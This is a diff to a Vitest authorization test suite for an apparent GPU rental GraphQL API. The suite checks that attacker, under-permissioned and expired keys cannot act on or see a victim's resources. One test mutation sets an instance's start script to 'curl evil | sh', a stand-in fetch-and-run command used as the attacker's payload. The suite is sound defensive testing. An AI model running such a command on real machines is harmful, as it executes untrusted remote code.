@@ -3,16 +3,20 @@ import sshpk from "sshpk";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { closeAuctionQueue } from "../domain/auction/service.ts";
 import { issueApiKey } from "../domain/apiKeys.ts";
+import { keyPermissions } from "../domain/authorization.ts";
+import type { ApiKeyPermission } from "../prisma/generated/client/client.ts";
 import { postEntry } from "../domain/billing/ledger.ts";
 import { prisma } from "../infra/db.ts";
 import { useTestApp } from "./support/app.ts";
+import { databaseSnapshot } from "./support/snapshot.ts";
 import { CREATE_INSTANCE, createAccount, createListedMachine, instanceInput, unwrap } from "./support/rentals.ts";
 
 /**
- * Every query and mutation that names an account's resources, tried with every credential that is
- * not that account's full key: anonymous, another account's keys of each scope, and the victim's own
- * machine- and instance-scoped keys. Each attempt must fail, reveal nothing of the victim, and leave
- * the whole database exactly as it was.
+ * Every query and mutation that names an account's resources or acts for an account, tried with
+ * every kind of key that may not do it: anonymous, another account's keys of each scope, the
+ * victim's own machine- and instance-scoped keys, the victim's account keys that lack the permission
+ * the operation needs (a read-only key among them), and the victim's expired key. Each attempt must
+ * fail, reveal nothing of the victim, and leave the whole database exactly as it was.
  */
 const app = useTestApp();
 afterAll(() => closeAuctionQueue());
@@ -23,25 +27,24 @@ interface Ids {
   machine: string;
   instance: string;
   template: string;
+  /** The victim's bid on the attacker's machine, and its instance. */
+  bid: string;
+  bidInstance: string;
 }
 
 let victim: { userId: number; key: string; email: string };
 /** A ledger description only the victim's statements may show. */
 const VICTIM_CREDIT = "credit for the victim 7f3a";
+/** The label of the victim's bid: order books show its price level, never this. */
+const VICTIM_BID_LABEL = "victim's bid 51c2";
 let ids: Ids;
+let attackerMachineId: number;
+const machineSpecs = {
+  gpuName: "RTX 4090", numGpus: 2, gpuRamMb: 24564, computeCap: 890, tflopsPerGpu: 82.6, gpuMemBw: 1008, pcieGen: 4, pcieBw: 24.5,
+  cpuName: "EPYC", cpuCores: 32, cpuRamMb: 128000, diskSpaceGb: 1000, diskBw: 3000, inetUpMbps: 500, inetDownMbps: 500,
+  cudaMaxGood: 12.4, driverVersion: "550.54.15", countryCode: "DE", geolocation: "Frankfurt, DE", datacenter: false,
+};
 const callers: Record<string, string | undefined> = {};
-
-async function databaseSnapshot(): Promise<string> {
-  const tables = await prisma.$queryRaw<{ tablename: string }[]>`
-    SELECT tablename FROM pg_tables WHERE schemaname = 'public' AND tablename <> 'schema_migrations' ORDER BY tablename`;
-  const dump: Record<string, unknown[]> = {};
-  for (const { tablename } of tables) {
-    const rows = await prisma.$queryRawUnsafe<Record<string, unknown>[]>(`SELECT * FROM "${tablename}" ORDER BY 1`);
-    // Authenticating a key stamps its last use; that is bookkeeping, not a change by the caller.
-    dump[tablename] = rows.map(({ last_used_at: _ignored, ...row }) => row);
-  }
-  return JSON.stringify(dump, (_key, value) => (typeof value === "bigint" ? value.toString() : value));
-}
 
 function sshPublicKey(): string {
   const { publicKey } = generateKeyPairSync("ed25519");
@@ -71,6 +74,11 @@ beforeAll(async () => {
   );
   const victimRental = unwrap((await app.gql(CREATE_INSTANCE, { input: instanceInput(attackerMachine, 1) }, victim.key)).data.createInstance);
   const attackerRental = unwrap((await app.gql(CREATE_INSTANCE, { input: instanceInput(victimMachine, 1) }, attacker.key)).data.createInstance);
+  const victimBid = unwrap(
+    (await app.gql(CREATE_INSTANCE, { input: instanceInput(attackerMachine, 2, { bidPricePerGpuHour: "0.50", label: VICTIM_BID_LABEL }) }, victim.key)).data
+      .createInstance,
+  );
+  attackerMachineId = attackerMachine;
 
   ids = {
     apiKey: extraKey.data.createApiKey.data.apiKey.id,
@@ -78,6 +86,8 @@ beforeAll(async () => {
     machine: `Machine:${victimMachine}`,
     instance: victimRental.instance.id,
     template: template.data.createTemplate.data.id,
+    bid: victimBid.instance.id.replace("Instance:", "Bid:"),
+    bidInstance: victimBid.instance.id,
   };
   callers.anonymous = undefined;
   callers["attacker account key"] = attacker.key;
@@ -85,47 +95,117 @@ beforeAll(async () => {
   callers["attacker instance key"] = attackerRental.apiKey.token;
   callers["victim machine key"] = (await issueApiKey(prisma, { userId: victim.userId, name: "m", scope: "MACHINE", machineId: victimMachine })).token;
   callers["victim instance key"] = victimRental.apiKey.token;
+  for (const permission of ["READ", "INSTANCES", "BILLING", "MACHINES", "KEYS"] as const) {
+    const permissions = keyPermissions([permission]);
+    callers[`victim ${permission} key`] = (await issueApiKey(prisma, { userId: victim.userId, name: permission, scope: "ACCOUNT", permissions })).token;
+  }
+  callers["victim expired key"] = (
+    await issueApiKey(prisma, { userId: victim.userId, name: "old", scope: "ACCOUNT", expiresAt: new Date(Date.now() - 1000) })
+  ).token;
+  callers["victim expired session"] = (
+    await issueApiKey(prisma, { userId: victim.userId, name: "login", scope: "SESSION", expiresAt: new Date(Date.now() - 1000) })
+  ).token;
 });
 
 const result = (field: string, success: string) => `${field} { __typename ... on ${success} { data { __typename } } ... on Error { code } }`;
 
-/** Operations on the victim's resources; `allowedFor` names callers that may legitimately succeed. */
-const operations: { name: string; document: string; variables: () => Record<string, unknown>; allowedFor?: string[] }[] = [
-  { name: "revokeApiKey", document: `mutation ($id: ID!) { ${result("revokeApiKey(id: $id)", "MutationRevokeApiKeySuccess")} }`, variables: () => ({ id: ids.apiKey }) },
-  { name: "removeSshKey", document: `mutation ($id: ID!) { ${result("removeSshKey(id: $id)", "MutationRemoveSshKeySuccess")} }`, variables: () => ({ id: ids.sshKey }) },
+/**
+ * Operations on the victim's resources or acting for whoever calls: `needs` is the permission an
+ * account key must hold, `allowedFor` names other callers that may legitimately succeed. Operations
+ * that act for the caller (`forCaller`) succeed for another account on its own account: they are
+ * tried with the victim's keys and the keys of no account.
+ */
+const operations: {
+  name: string;
+  document: string;
+  variables: () => Record<string, unknown>;
+  needs: ApiKeyPermission;
+  allowedFor?: string[];
+  forCaller?: boolean;
+}[] = [
+  { name: "revokeApiKey", needs: "KEYS", document: `mutation ($id: ID!) { ${result("revokeApiKey(id: $id)", "MutationRevokeApiKeySuccess")} }`, variables: () => ({ id: ids.apiKey }) },
+  { name: "removeSshKey", needs: "KEYS", document: `mutation ($id: ID!) { ${result("removeSshKey(id: $id)", "MutationRemoveSshKeySuccess")} }`, variables: () => ({ id: ids.sshKey }) },
   {
-    name: "listMachine",
+    name: "listMachine", needs: "MACHINES",
     document: `mutation ($input: ListMachineInput!) { ${result("listMachine(input: $input)", "MutationListMachineSuccess")} }`,
     variables: () => ({ input: { machineId: ids.machine, pricePerGpuHour: "9.00", endDate: new Date(Date.now() + 86_400_000 * 10).toISOString() } }),
   },
-  { name: "unlistMachine", document: `mutation ($id: ID!) { ${result("unlistMachine(machineId: $id)", "MutationUnlistMachineSuccess")} }`, variables: () => ({ id: ids.machine }) },
-  { name: "setMinBid", document: `mutation ($id: ID!) { ${result('setMinBid(machineId: $id, pricePerGpuHour: "0.01")', "MutationSetMinBidSuccess")} }`, variables: () => ({ id: ids.machine }) },
+  { name: "unlistMachine", needs: "MACHINES", document: `mutation ($id: ID!) { ${result("unlistMachine(machineId: $id)", "MutationUnlistMachineSuccess")} }`, variables: () => ({ id: ids.machine }) },
+  { name: "setMinBid", needs: "MACHINES", document: `mutation ($id: ID!) { ${result('setMinBid(machineId: $id, pricePerGpuHour: "0.01")', "MutationSetMinBidSuccess")} }`, variables: () => ({ id: ids.machine }) },
   {
-    name: "extendMachineEndDate",
+    name: "extendMachineEndDate", needs: "MACHINES",
     document: `mutation ($id: ID!, $end: DateTime!) { ${result("extendMachineEndDate(machineId: $id, endDate: $end)", "MutationExtendMachineEndDateSuccess")} }`,
     variables: () => ({ id: ids.machine, end: new Date(Date.now() + 86_400_000 * 60).toISOString() }),
   },
-  { name: "stopInstance", document: `mutation ($id: ID!) { ${result("stopInstance(id: $id)", "MutationStopInstanceSuccess")} }`, variables: () => ({ id: ids.instance }), allowedFor: ["victim instance key"] },
-  { name: "startInstance", document: `mutation ($id: ID!) { ${result("startInstance(id: $id)", "MutationStartInstanceSuccess")} }`, variables: () => ({ id: ids.instance }), allowedFor: ["victim instance key"] },
-  { name: "destroyInstance", document: `mutation ($id: ID!) { ${result("destroyInstance(id: $id)", "MutationDestroyInstanceSuccess")} }`, variables: () => ({ id: ids.instance }), allowedFor: ["victim instance key"] },
-  { name: "labelInstance", document: `mutation ($id: ID!) { ${result('labelInstance(id: $id, label: "pwned")', "MutationLabelInstanceSuccess")} }`, variables: () => ({ id: ids.instance }) },
-  { name: "changeBid", document: `mutation ($id: ID!) { ${result('changeBid(instanceId: $id, pricePerGpuHour: "5.00")', "MutationChangeBidSuccess")} }`, variables: () => ({ id: ids.instance }) },
-  { name: "deleteTemplate", document: `mutation ($id: ID!) { ${result("deleteTemplate(id: $id)", "MutationDeleteTemplateSuccess")} }`, variables: () => ({ id: ids.template }) },
+  { name: "stopInstance", needs: "INSTANCES", document: `mutation ($id: ID!) { ${result("stopInstance(id: $id)", "MutationStopInstanceSuccess")} }`, variables: () => ({ id: ids.instance }), allowedFor: ["victim instance key"] },
+  { name: "startInstance", needs: "INSTANCES", document: `mutation ($id: ID!) { ${result("startInstance(id: $id)", "MutationStartInstanceSuccess")} }`, variables: () => ({ id: ids.instance }), allowedFor: ["victim instance key"] },
+  { name: "destroyInstance", needs: "INSTANCES", document: `mutation ($id: ID!) { ${result("destroyInstance(id: $id)", "MutationDestroyInstanceSuccess")} }`, variables: () => ({ id: ids.instance }), allowedFor: ["victim instance key"] },
+  { name: "rebootInstance", needs: "INSTANCES", document: `mutation ($id: ID!) { ${result("rebootInstance(id: $id)", "MutationRebootInstanceSuccess")} }`, variables: () => ({ id: ids.instance }), allowedFor: ["victim instance key"] },
+  { name: "recycleInstance", needs: "INSTANCES", document: `mutation ($id: ID!) { ${result("recycleInstance(id: $id)", "MutationRecycleInstanceSuccess")} }`, variables: () => ({ id: ids.instance }), allowedFor: ["victim instance key"] },
+  {
+    name: "updateInstance",
+    needs: "INSTANCES",
+    document: `mutation ($id: ID!) { ${result('updateInstance(id: $id, input: { onstart: "curl evil | sh" })', "MutationUpdateInstanceSuccess")} }`,
+    variables: () => ({ id: ids.instance }),
+    allowedFor: ["victim instance key"],
+  },
+  { name: "labelInstance", needs: "INSTANCES", document: `mutation ($id: ID!) { ${result('labelInstance(id: $id, label: "pwned")', "MutationLabelInstanceSuccess")} }`, variables: () => ({ id: ids.instance }) },
+  { name: "changeBid", needs: "INSTANCES", document: `mutation ($id: ID!) { ${result('changeBid(instanceId: $id, pricePerGpuHour: "5.00")', "MutationChangeBidSuccess")} }`, variables: () => ({ id: ids.instance }) },
+  { name: "deleteTemplate", needs: "INSTANCES", document: `mutation ($id: ID!) { ${result("deleteTemplate(id: $id)", "MutationDeleteTemplateSuccess")} }`, variables: () => ({ id: ids.template }) },
   {
     name: "createInstance",
+    needs: "INSTANCES",
     document: `mutation ($input: CreateInstanceInput!) { ${result("createInstance(input: $input)", "MutationCreateInstanceSuccess")} }`,
     variables: () => ({ input: { offerId: `${ids.machine.split(":")[1]}-1`, templateId: ids.template } }),
   },
-  { name: "instance", document: `query ($id: ID!) { instance(id: $id) { id status } }`, variables: () => ({ id: ids.instance }) },
+  { name: "instance", needs: "READ", document: `query ($id: ID!) { instance(id: $id) { id status } }`, variables: () => ({ id: ids.instance }) },
   {
-    name: "charges",
+    name: "charges", needs: "READ",
     document: `query ($id: ID!, $from: DateTime!, $to: DateTime!) { charges(instanceId: $id, from: $from, to: $to) { instanceId amount } }`,
     variables: () => ({ id: ids.instance, ...lastWeek() }),
   },
   {
-    name: "earnings",
+    name: "earnings", needs: "READ",
     document: `query ($id: ID!, $from: DateTime!, $to: DateTime!) { earnings(machineId: $id, from: $from, to: $to) { machineId } }`,
     variables: () => ({ id: ids.machine, ...lastWeek() }),
+  },
+  { name: "requestEmailVerification", document: `mutation { ${result("requestEmailVerification", "MutationRequestEmailVerificationSuccess")} }`, variables: () => ({}), needs: "KEYS", forCaller: true },
+  {
+    name: "changePassword",
+    document: `mutation { ${result('changePassword(currentPassword: "x", newPassword: "a new password")', "MutationChangePasswordSuccess")} }`,
+    variables: () => ({}),
+    needs: "KEYS",
+    forCaller: true,
+  },
+  { name: "addCard", document: `mutation { ${result("addCard", "MutationAddCardSuccess")} }`, variables: () => ({}), needs: "BILLING", forCaller: true },
+  { name: "createApiKey", document: `mutation { ${result('createApiKey(name: "x")', "MutationCreateApiKeySuccess")} }`, variables: () => ({}), needs: "KEYS", forCaller: true },
+  {
+    name: "addSshKey",
+    document: `mutation ($k: String!) { ${result("addSshKey(publicKey: $k)", "MutationAddSshKeySuccess")} }`,
+    variables: () => ({ k: sshPublicKey() }),
+    needs: "KEYS",
+    forCaller: true,
+  },
+  {
+    name: "updateBillingSettings",
+    document: `mutation { ${result('updateBillingSettings(input: { balanceAlertThreshold: "3.00" })', "MutationUpdateBillingSettingsSuccess")} }`,
+    variables: () => ({}),
+    needs: "BILLING",
+    forCaller: true,
+  },
+  {
+    name: "setPayoutAccount",
+    document: `mutation { ${result('setPayoutAccount(accountId: "acct_123")', "MutationSetPayoutAccountSuccess")} }`,
+    variables: () => ({}),
+    needs: "BILLING",
+    forCaller: true,
+  },
+  {
+    name: "registerMachine",
+    document: `mutation ($input: RegisterMachineInput!) { ${result("registerMachine(input: $input)", "MutationRegisterMachineSuccess")} }`,
+    variables: () => ({ input: machineSpecs }),
+    needs: "MACHINES",
+    forCaller: true,
   },
 ];
 
@@ -138,6 +218,8 @@ const RECENT = `from: "${lastWeek().from}", to: "${lastWeek().to}"`;
 /** Queries that list "my" things: for any other caller they must fail or show none of the victim's. */
 const listings = [
   "{ me { id email } }",
+  "{ spendLimit { tier currentPerHour } }",
+  "{ sessions { id name } }",
   "{ apiKeys { id name } }",
   "{ sshKeys { id fingerprint } }",
   "{ myMachines { id } }",
@@ -148,20 +230,46 @@ const listings = [
   `{ invoices(${RECENT}) { description amount } }`,
   `{ charges(${RECENT}) { instanceId } }`,
   `{ earnings(${RECENT}) { machineId } }`,
+  "{ bids(first: 50) { totalCount edges { node { id machineId standing priceToWin instance { id label } } } } }",
 ];
 
+/** The victim's account keys holding one permission each (and READ): they may do what it allows. */
+const permissionOf = (caller: string) => /^victim (READ|INSTANCES|BILLING|MACHINES|KEYS) key$/.exec(caller)?.[1];
+
 describe("authorization matrix", () => {
-  const callerNames = ["anonymous", "attacker account key", "attacker machine key", "attacker instance key", "victim machine key", "victim instance key"];
+  const callerNames = [
+    "anonymous",
+    "attacker account key",
+    "attacker machine key",
+    "attacker instance key",
+    "victim machine key",
+    "victim instance key",
+    "victim READ key",
+    "victim INSTANCES key",
+    "victim BILLING key",
+    "victim MACHINES key",
+    "victim KEYS key",
+    "victim expired key",
+    "victim expired session",
+  ];
 
   for (const operation of operations) {
     for (const caller of callerNames) {
       if (operation.allowedFor?.includes(caller)) continue;
+      const permission = permissionOf(caller);
+      if (permission && (permission === operation.needs || operation.needs === "READ")) continue;
+      if (operation.forCaller && caller === "attacker account key") continue;
       it(`${operation.name} by ${caller} fails and changes nothing`, async () => {
         const before = await databaseSnapshot();
         const response = await app.gql(operation.document, operation.variables(), callers[caller]);
         const field = response.data?.[operation.name];
         const failed = (response.errors?.length ?? 0) > 0 || (field && "code" in field);
         expect(failed, JSON.stringify(response)).toBe(true);
+        // A key that may not do it is told so; one that may meets only the victim's ownership.
+        if (operation.forCaller || caller.startsWith("victim") || caller === "anonymous") {
+          const code = field?.code ?? response.errors?.[0]?.extensions?.code;
+          expect(["FORBIDDEN", "UNAUTHENTICATED"], JSON.stringify(response)).toContain(code);
+        }
         expect(JSON.stringify(response)).not.toContain(victim.email);
         expect(await databaseSnapshot()).toBe(before);
       });
@@ -170,21 +278,56 @@ describe("authorization matrix", () => {
 
   for (const query of listings) {
     for (const caller of callerNames) {
+      if (permissionOf(caller)) continue; // the victim's own keys that may read, below
       it(`${query} by ${caller} shows nothing of the victim`, async () => {
         const response = JSON.stringify(await app.gql(query, {}, callers[caller]));
         expect(response).not.toContain(victim.email);
         expect(response).not.toContain(VICTIM_CREDIT);
+        expect(response).not.toContain(VICTIM_BID_LABEL);
         for (const id of Object.values(ids)) expect(response).not.toContain(`"${id}"`);
       });
     }
   }
 
+  for (const caller of callerNames) {
+    it(`the order book of a machine the victim bids on, by ${caller}, shows the bid's level and nothing of the victim`, async () => {
+      const book = `orderBook { minBid clearingPrice levels { price gpus bids winningGpus } }`;
+      const response = await app.gql(
+        `query ($m: ID!) { orderBook(machineId: $m) { machineId levels { price gpus bids } } offers(query: "machine_id=${attackerMachineId} rentable=any") { edges { node { ${book} } } } }`,
+        { m: `Machine:${attackerMachineId}` },
+        callers[caller],
+      );
+      // Expired credentials are refused outright; every other caller sees the book.
+      if (!caller.includes("expired")) expect(response.data.orderBook.levels).toContainEqual({ price: "0.50", gpus: 2, bids: 1 });
+      const text = JSON.stringify(response);
+      expect(text).not.toContain(victim.email);
+      expect(text).not.toContain(VICTIM_BID_LABEL);
+      expect(text).not.toContain(`"${victim.userId}"`);
+      for (const id of Object.values(ids)) expect(text).not.toContain(`"${id}"`);
+    });
+  }
+
+  it("a read-only key lists the victim's things and cannot rent", async () => {
+    const readOnly = callers["victim READ key"];
+    const listed = JSON.stringify(await app.gql("{ instances(first: 50) { edges { node { id } } } }", {}, readOnly));
+    expect(listed).toContain(ids.instance);
+    expect(JSON.stringify(await app.gql(listings.find((q) => q.includes("myMachines"))!, {}, readOnly))).toContain(ids.machine);
+    const rent = operations.find((o) => o.name === "createInstance")!;
+    const before = await databaseSnapshot();
+    const refused = await app.gql(rent.document, rent.variables(), readOnly);
+    expect(refused.data.createInstance).toMatchObject({ __typename: "ForbiddenError", code: "FORBIDDEN" });
+    expect(await databaseSnapshot()).toBe(before);
+  });
+
   it("the victim's own account key does succeed (the matrix is not vacuous)", async () => {
     const response = await app.gql(operations.find((o) => o.name === "labelInstance")!.document, { id: ids.instance }, victim.key);
     expect(response.data.labelInstance.__typename).toBe("MutationLabelInstanceSuccess");
-    const listed = JSON.stringify(await app.gql(listings[3], {}, victim.key));
+    const listed = JSON.stringify(await app.gql(listings.find((q) => q.includes("myMachines"))!, {}, victim.key));
     expect(listed).toContain(ids.machine);
     const invoices = JSON.stringify(await app.gql(listings.find((q) => q.includes("invoices"))!, {}, victim.key));
     expect(invoices).toContain(VICTIM_CREDIT);
+    const bids = JSON.stringify(await app.gql(listings.find((q) => q.includes("bids"))!, {}, victim.key));
+    expect(bids).toContain(ids.bid);
+    expect(bids).toContain(VICTIM_BID_LABEL);
   });
 });
